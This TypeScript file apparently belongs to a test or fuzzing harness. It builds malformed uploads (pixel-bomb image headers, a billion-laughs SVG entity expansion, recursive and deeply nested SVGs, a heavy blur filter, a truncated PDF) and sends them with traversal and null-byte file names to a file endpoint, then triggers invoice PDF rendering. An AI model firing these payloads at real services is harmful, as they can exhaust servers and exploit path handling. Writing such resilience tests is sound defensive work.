/** Files that claim to be smaller or larger than they are. */
import { gifStart, jpegStart, pngOf, pngStart } from '../support/pictures.ts'
import { type Attack, pick, type Victim } from './attack.ts'

const files: Readonly<Record<string, () => Buffer>> = {
  'a PNG of 36 million pixels': () => pngOf(6_000, 6_000),
  'a PNG of 64 million pixels': () => pngStart(8_000, 8_000),
  'a PNG of 65,500 × 65,500 pixels': () => pngStart(65_500, 65_500),
  'a PNG that ends in its header': () => pngStart(10, 10).subarray(0, 20),
  'a JPEG of 60,000 × 60,000 pixels': () => jpegStart(60_000, 60_000),
  'a GIF with a frame beyond its screen': () => gifStart(10, 10, [60_000, 60_000]),
  'a GIF without pictures': () => Buffer.from('GIF89a\xff\xff\xff\xff\x00\x00\x00', 'latin1'),
  'a JPEG that only begins': () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0xff, 0xff, 0, 0]),
  'an SVG of entities': () =>
    Buffer.from(
      `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, index) => `<!ENTITY a${index} "${`&a${index - 1 < 0 ? '' : index - 1};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&a8;</text></svg>`,
    ),
  'an SVG of groups inside each other': () =>
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(50_000)}${'</g>'.repeat(50_000)}</svg>`),
  'an SVG that uses itself': () =>
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><g id="a"><use href="#a"/><use href="#a"/></g></svg>'),
  'an SVG of a thousand blurs': () =>
    Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" width="9999" height="9999"><filter id="f">${'<feGaussianBlur stdDeviation="999"/>'.repeat(1_000)}</filter><rect width="9999" height="9999" filter="url(#f)"/></svg>`,
    ),
  'a PDF that is none': () => Buffer.from('%PDF-1.7\n1 0 obj<</Length 99999999>>stream'),
}

async function upload(victim: Victim, bytes: Buffer): Promise<void> {
  const form = new FormData()
  form.set('file', new Blob([new Uint8Array(bytes)]), pick(victim.random, ['a.png', 'a.svg', '../../a', 'a\u0000.pdf']))
  const stored = await victim.send('POST', '/v2/file', { body: form })
  if (stored?.status !== 200) return
  const { id } = JSON.parse(stored.text).success
  const headers = { 'content-type': 'application/json' }
  await victim.send('PUT', '/v2/invoice-template?id=1', { body: JSON.stringify({ logo: [{ id }] }), headers })
  await victim.send('GET', '/v2/invoice/pdf?id=1')
}

export const attackWithPictures: readonly Attack[] = Object.entries(files).map(([name, write]) => ({
  name: `picture: ${name}`,
  run: (victim) => upload(victim, write()),
}))
